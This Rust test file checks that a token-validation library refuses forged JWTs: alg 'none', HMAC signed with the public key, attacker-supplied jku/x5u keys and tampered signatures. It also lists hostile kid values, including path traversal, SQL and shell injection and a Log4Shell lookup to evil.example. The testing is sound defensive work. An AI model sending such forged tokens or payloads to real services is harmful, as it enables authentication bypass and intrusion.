//! Access tokens under a wrong key or algorithm (RFC 7515, RFC 8725 §3.1, §3.10).

use std::time::Duration;

use auth_layer::config::TrustedIssuer;
use auth_layer::jose::Algorithm;
use auth_layer::testing::{
    DEFAULT_CLIENT_ID, DEFAULT_CLIENT_SECRET, Endpoint, IdentityProvider, SigningAlgorithm, TestAccessToken,
};
use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use tests::{Api, START};

use crate::support::{
    OWN_HEADER, OwnKey, StrangeServer, api_with_own_key, assert_passes, assert_refused, encoded, good_claims,
    unsigned,
};

const NOT_ALLOWED: &str = "fails at its Header: its alg is not allowed";
const NO_KEY: &str = "fails at its Key: no key of the provider fits";

/// The header of an honest token.
async fn honest_header(api: &Api) -> Value {
    let jwks: Value = reqwest::get(api.op.url(Endpoint::Jwks)).await.unwrap().json().await.unwrap();
    json!({ "alg": "RS256", "typ": "at+jwt", "kid": jwks["keys"][0]["kid"] })
}

#[tokio::test]
async fn alg_none_in_every_spelling() {
    let api = Api::open().await;
    let claims = good_claims(&api);
    for alg in ["none", "None", "NONE", "nOnE", "", " none", "none ", "n\u{43e}ne", "none\u{0}", "HS0"] {
        for signature in ["", "AA", &encoded([0; 256])] {
            let header = json!({ "alg": alg, "typ": "at+jwt" });
            assert_refused(&api, alg, &format!("{}.{signature}", unsigned(&header, &claims)), NOT_ALLOWED)
                .await;
        }
        let signed = api.token(Api::ada().with_header("alg", alg));
        assert_refused(&api, "yet signed", &signed, NOT_ALLOWED).await;
    }
    let absent = api.token(Api::ada().without_header("alg"));
    assert_refused(&api, "absent", &absent, "fails at its Header: it has no alg").await;
    for alg in [json!(7), json!(null), json!(["RS256"]), json!({ "alg": "RS256" }), json!(false)] {
        let token = api.token(Api::ada().with_header("alg", alg.clone()));
        assert_refused(&api, &alg.to_string(), &token, "fails at its Header: alg is no string").await;
    }
}

fn hmac_signed(name: &str, key: &[u8], header: &Value, claims: &Value) -> String {
    let algorithm = match name {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        _ => hmac::HMAC_SHA512,
    };
    let mut header = header.clone();
    header["alg"] = json!(name);
    let input = unsigned(&header, claims);
    let tag = hmac::sign(&hmac::Key::new(algorithm, key), input.as_bytes());
    format!("{input}.{}", encoded(tag.as_ref()))
}

/// The public key as its owner might print it: PEM of its `SubjectPublicKeyInfo`, 2048 bits and 65537.
fn pem(modulus: &[u8]) -> String {
    const HEAD: &[u8] = b"\x30\x82\x01\x22\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00\
          \x03\x82\x01\x0f\x00\x30\x82\x01\x0a\x02\x82\x01\x01\x00";
    let text = STANDARD.encode([HEAD, modulus, b"\x02\x03\x01\x00\x01"].concat());
    let lines: Vec<&str> = text.as_bytes().chunks(64).map(|line| str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"))
}

#[tokio::test]
async fn hmac_with_the_public_key() {
    let api = Api::open().await;
    let (header, claims) = (honest_header(&api).await, good_claims(&api));
    let jwks: Value = reqwest::get(api.op.url(Endpoint::Jwks)).await.unwrap().json().await.unwrap();
    let modulus = jwks["keys"][0]["n"].as_str().unwrap().to_owned();
    let bytes = URL_SAFE_NO_PAD.decode(&modulus).unwrap();
    let printed = pem(&bytes);
    let of_key = jwks["keys"][0].to_string();
    let of_set = jwks.to_string();
    for key in [
        printed.as_bytes(),
        printed.trim_end().as_bytes(),
        of_key.as_bytes(),
        of_set.as_bytes(),
        modulus.as_bytes(),
        &bytes,
    ] {
        for name in ["HS256", "HS384", "HS512"] {
            assert_refused(&api, name, &hmac_signed(name, key, &header, &claims), NOT_ALLOWED).await;
        }
    }
    assert_passes(&api, "what is bent is good before", &api.op.sign(&header, &claims)).await;
}

#[tokio::test]
async fn hmac_with_the_client_secret() {
    // The secret is at hand where opaque tokens are introspected.
    let asks = |issuer: TrustedIssuer| issuer.with_introspection(DEFAULT_CLIENT_ID, DEFAULT_CLIENT_SECRET);
    let api = Api::builder().issuer(asks).open().await;
    let claims = good_claims(&api);
    for key in [DEFAULT_CLIENT_SECRET, "", "secret"] {
        for header in [honest_header(&api).await, json!({ "typ": "at+jwt" })] {
            assert_refused(&api, key, &hmac_signed("HS256", key.as_bytes(), &header, &claims), NOT_ALLOWED)
                .await;
        }
    }
    // Nor where the issuer publishes such a key.
    api.op.publish_jwk(json!({ "kty": "oct", "kid": "shared", "alg": "HS256", "k": encoded("secret") }));
    let published = Api::builder().over(&api.op).await;
    let header = json!({ "typ": "at+jwt", "kid": "shared" });
    let token = hmac_signed("HS256", b"secret", &header, &good_claims(&published));
    assert_refused(&published, "a published secret", &token, NOT_ALLOWED).await;
    assert_eq!(api.op.calls(Endpoint::Introspection), 0, "a JWT is never asked about");
}

#[tokio::test]
async fn key_brought_in_the_header() {
    let api = Api::open().await;
    let (key, claims) = (OwnKey::get(), good_claims(&api));
    let strange = StrangeServer::start(move || {
        axum::response::Response::new(json!({ "keys": [key.jwk()] }).to_string().into())
    })
    .await;
    let honest = honest_header(&api).await["kid"].clone();
    for member in ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"] {
        for kid in [None, Some(json!("own")), Some(honest.clone()), Some(json!(strange.url))] {
            let mut header = json!({ "alg": "ES256", "typ": "at+jwt" });
            if let Some(kid) = &kid {
                header["kid"] = kid.clone();
            }
            header[member] = match member {
                "jwk" => key.jwk(),
                "x5c" => json!(["AAAA"]),
                _ => json!(strange.url),
            };
            let token = key.sign_raw(&header.to_string(), &claims.to_string());
            assert_refused(&api, &format!("{member}, kid {kid:?}"), &token, "fails at its Key").await;
        }
        let beside = api.token(Api::ada().with_header(member, strange.url.as_str()));
        assert_passes(&api, "beside an honest key it is let lie", &beside).await;
    }
    assert_eq!(strange.calls(), 0, "no address in a header is ever opened");
}

#[tokio::test]
async fn critical_extension_or_other_processing() {
    let api = Api::open().await;
    for (name, value, why) in [
        ("crit", json!(["exp"]), "it has critical extensions"),
        ("crit", json!(["b64"]), "it has critical extensions"),
        ("crit", json!(["http://x.example/unknown"]), "it has critical extensions"),
        ("crit", json!([]), "it has critical extensions"),
        ("crit", json!("exp"), "it has critical extensions"),
        ("crit", json!(null), "it has critical extensions"),
        ("b64", json!(false), "it is no plain signature"),
        ("b64", json!(true), "it is no plain signature"),
        ("zip", json!("DEF"), "it is no plain signature"),
        ("enc", json!("A256GCM"), "it is no plain signature"),
    ] {
        let token = api.token(Api::ada().with_header(name, value.clone()));
        assert_refused(&api, &format!("{name} = {value}"), &token, &format!("fails at its Header: {why}"))
            .await;
    }
}

#[tokio::test]
async fn member_twice_in_the_header() {
    let (api, key) = api_with_own_key(Api::builder()).await;
    let claims = good_claims(&api).to_string();
    assert_passes(&api, "good", &key.sign_raw(OWN_HEADER, &claims)).await;
    for header in [
        r#"{"alg":"none","alg":"ES256","kid":"own","typ":"at+jwt"}"#,
        r#"{"alg":"ES256","kid":"own","typ":"at+jwt","alg":"none"}"#,
        r#"{"alg":"ES256","kid":"x","kid":"own","typ":"at+jwt"}"#,
        r#"{"alg":"ES256","kid":"own","typ":"JWT","typ":"at+jwt"}"#,
        r#"{"alg":"ES256","kid":"own","typ":"at+jwt","\u0061lg":"none"}"#,
        r#"{"alg":"ES256","kid":"own","typ":"at+jwt","x":1,"x":2}"#,
        r#"{"alg":"ES256","kid":"own","typ":"at+jwt"}{}"#,
        r#"{"alg":"ES256","kid":"own","typ":"at+jwt",}"#,
    ] {
        let why = "fails at its Header: it is no object of unique members";
        assert_refused(&api, header, &key.sign_raw(header, &claims), why).await;
    }
}

#[tokio::test]
async fn kid_that_is_more_than_a_name() {
    let api = Api::open().await;
    let long = "k".repeat(256);
    for kid in [
        "unknown",
        "../../../../etc/passwd",
        "/dev/null",
        "file:///dev/null",
        "http://169.254.169.254/latest",
        "' OR 1=1 --",
        "x' UNION SELECT 'secret",
        "$(sleep 9)",
        "`sleep 9`",
        "${jndi:ldap://evil.example/x}",
        "%s%s%s%n",
        "line\r\nWARN forged log line",
        "\u{1b}[31mred",
        "\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}",
        "*",
        ".*",
        &long,
    ] {
        assert_refused(&api, kid, &api.token(Api::ada().with_header("kid", kid)), NO_KEY).await;
    }
    let why = "fails at its Header: kid is longer than 256 bytes";
    for length in [257, 10_000] {
        let token = api.token(Api::ada().with_header("kid", "k".repeat(length)));
        assert_refused(&api, "too long", &token, why).await;
    }
    for kid in [json!(7), json!(null), json!(["k"]), json!({ "k": 1 }), json!(true)] {
        let token = api.token(Api::ada().with_header("kid", kid.clone()));
        assert_refused(&api, &kid.to_string(), &token, "fails at its Header: kid is no string").await;
    }
    assert!(api.op.calls(Endpoint::Jwks) <= 2, "all these unknown keys are one fetch");
    assert_passes(&api, "good", &api.token(Api::ada())).await;
}

#[tokio::test]
async fn algorithm_that_is_not_the_keys() {
    let api = Api::open().await;
    for alg in ["RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA"] {
        assert_refused(&api, alg, &api.token(Api::ada().with_header("alg", alg)), "fails at its").await;
    }
    for alg in
        ["ES256K", "RS1", "rs256", "RS256 ", "RSA-OAEP", "dir", "A256GCM", "PBES2-HS256+A128KW", "ML-DSA-44"]
    {
        assert_refused(&api, alg, &api.token(Api::ada().with_header("alg", alg)), NOT_ALLOWED).await;
    }
}

#[tokio::test]
async fn algorithm_that_the_application_does_not_take() {
    let provider = IdentityProvider::builder()
        .clock(auth_layer::Clock::manual(auth_layer::Timestamp::from_unix_seconds(START)))
        .add_signing_key(SigningAlgorithm::Es256);
    let op = provider.start().await.unwrap();
    let only = |issuer: TrustedIssuer| issuer.with_algorithms([Algorithm::Es256]);
    let api = Api::builder().issuer(only).over(&op).await;
    let es256 = || Api::ada().signed_with(SigningAlgorithm::Es256);
    assert_passes(&api, "ES256", &op.issue_access_token(es256())).await;
    let why = "fails at its Header: its alg is not one of those that are allowed";
    assert_refused(&api, "RS256", &op.issue_access_token(Api::ada()), why).await;
    let renamed = op.issue_access_token(Api::ada().with_header("alg", "ES256"));
    assert_refused(&api, "RS256 under the name ES256", &renamed, "fails at its Key").await;
}

#[tokio::test]
async fn kid_absent_with_two_keys() {
    let api = Api::builder().provider(|op| op.own_keys()).open().await;
    let nameless = |api: &Api| api.token(Api::ada().without_header("kid"));
    assert_passes(&api, "with one key there is no doubt", &nameless(&api)).await;
    api.op.rotate_keys(true);
    let two = Api::builder().over(&api.op).await;
    assert_refused(&two, "which of the two?", &nameless(&two), "fails at its Key: several keys fit").await;
}

#[tokio::test]
async fn key_of_another_issuer() {
    let provider = IdentityProvider::builder().clock(Api::open().await.clock).own_keys();
    let (other, trusted) = (provider.start().await.unwrap(), Api::open().await);
    let second = TrustedIssuer::new(&other.issuer());
    let api = Api::builder().config(|config| config.add_issuer(second)).over(&trusted.op).await;
    assert_passes(&api, "its own", &other.issue_access_token(Api::ada())).await;
    let claiming = |iss: String| Api::ada().with_claim("iss", iss);
    let forged = other.issue_access_token(claiming(trusted.op.issuer()));
    assert_refused(&api, "signed by the one, says the other", &forged, NO_KEY).await;
    let back = api.token(claiming(other.issuer()));
    assert_refused(&api, "and the other way round", &back, NO_KEY).await;
    // Under the very name of the key that it claims.
    let kid = honest_header(&trusted).await["kid"].clone();
    let named = other.issue_access_token(claiming(trusted.op.issuer()).with_header("kid", kid));
    assert_refused(&api, "under the other's name", &named, "fails at its Signature").await;
}

#[tokio::test]
async fn key_that_the_issuer_has_withdrawn() {
    let api = Api::builder().provider(|op| op.own_keys()).open().await;
    let old = api.token(Api::ada());
    assert_passes(&api, "before", &old).await;
    api.op.rotate_keys(false);
    assert_passes(&api, "the new key", &api.token(Api::ada())).await;
    assert_refused(&api, "known, and signed by nobody", &old, NO_KEY).await;
    api.clock.advance(Duration::from_secs(31));
    assert_refused(&api, "after the cool-down", &old, NO_KEY).await;
}

#[tokio::test]
async fn signature_bent_cut_or_swapped() {
    let api = Api::open().await;
    let (one, two) = (api.token(Api::ada()), api.token(TestAccessToken::new("local|root")));
    assert_passes(&api, "one", &one).await;
    let segments: Vec<&str> = one.split('.').collect();
    let [header, claims, signature] = segments[..] else { panic!("three segments") };
    let other: Vec<&str> = two.split('.').collect();
    let format = "fails at its Format";
    let signed = "fails at its Signature: the key did not sign it";
    for (attack, token, why) in [
        ("none", format!("{header}.{claims}."), signed),
        ("two segments", format!("{header}.{claims}"), format),
        ("four segments", format!("{one}.x"), format),
        ("cut", format!("{header}.{claims}.{}", &signature[..100]), signed),
        ("zeros", format!("{header}.{claims}.{}", encoded([0; 256])), signed),
        ("longer", format!("{header}.{claims}.{}AAAA", &signature[..340]), signed),
        ("another token's", format!("{header}.{claims}.{}", other[2]), signed),
        ("another token's claims", format!("{header}.{}.{signature}", other[1]), signed),
        ("padding", format!("{one}=="), format),
        ("a bit that stands for nothing", format!("{}B", &one[..one.len() - 1]), "fails at its"),
        (
            "standard alphabet",
            format!("{header}.{claims}.{}", signature.replace('-', "+").replace('_', "/")),
            format,
        ),
        ("percent", one.replace('.', "%2e"), format),
    ] {
        assert_refused(&api, attack, &token, why).await;
    }
    assert_passes(&api, "still", &one).await;
}
